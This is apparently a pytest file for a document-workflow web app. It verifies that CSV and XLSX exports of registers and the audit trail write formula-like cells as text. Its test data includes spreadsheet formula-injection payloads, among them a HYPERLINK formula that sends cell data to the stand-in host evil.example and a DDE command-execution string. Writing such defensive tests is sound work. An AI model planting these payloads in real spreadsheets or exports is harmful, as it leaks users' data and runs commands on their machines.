"""CSV/XLSX exports neutralise formula cells (issue 14): a subject, a name or an audit detail
beginning with = + - @, tab or CR (or their full-width forms, or after spaces) is written as text,
never as a formula, in every export: registers on the pages (CSV, XLSX), the same registers from
the command line, and the audit trail's CSV."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from docflow import audit
from docflow.workflow.context import VN_TZ
from docflow.workflow.exports import FORMULA_STARTS
from tests.conftest import DEMO_PASSWORD, csrf_token
from tests.workflow.helpers import issued_document

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1", "  =1+1", "＝1+1"]


def _dangerous(cell) -> bool:
    text = "" if cell is None else str(cell)
    return text.lstrip(" ")[:1] in FORMULA_STARTS


def _login(app, username: str):
    client = app.test_client()
    assert client.post("/login", data={"username": username, "password": DEMO_PASSWORD,
                                       "csrf_token": csrf_token(client)}).status_code == 302
    return client


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]


def test_no_export_carries_a_formula(world, tmp_path):
    w, db = world, world.db
    for subject in HOSTILE:
        issued_document(w, subject=subject)
    audit.record(db, "test.hostile", actor=w.user("snnmt.staff"), details={"note": HOSTILE[0]})
    db.commit()
    clerk, auditor = _login(w.app, "snnmt.clerk"), _login(w.app, "snnmt.auditor")
    year = w.clock().astimezone(VN_TZ).year
    query = f"&year={year}"
    checked = 0
    csv_data = clerk.get(f"/registers/outgoing?format=csv{query}")
    assert csv_data.status_code == 200
    cells = _csv_cells(csv_data.data)
    assert sum(1 for c in cells if c.startswith("'")) >= len(HOSTILE)  # the subjects are there, as text
    assert not [c for c in cells if _dangerous(c)]
    checked += len(cells)

    xlsx = clerk.get(f"/registers/outgoing?format=xlsx{query}")
    sheet = load_workbook(io.BytesIO(xlsx.data)).active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.value for c in values if c.data_type == "f" or _dangerous(c.value)]
    assert sum(1 for c in values if str(c.value or "").startswith("'")) >= len(HOSTILE)
    checked += len(values)

    trail = auditor.get("/audit/trail.csv")
    assert trail.status_code == 200
    cells = _csv_cells(trail.data)
    assert not [c for c in cells if _dangerous(c)]
    checked += len(cells)

    out = tmp_path / "so-di.csv"
    result = w.app.test_cli_runner().invoke(args=["registers", "outgoing", "--agency", "SNNMT", "--year",
                                                  str(year), "-o", str(out)])
    assert result.exit_code == 0, result.output
    cells = _csv_cells(out.read_bytes())
    assert not [c for c in cells if _dangerous(c)]
    assert checked > 50
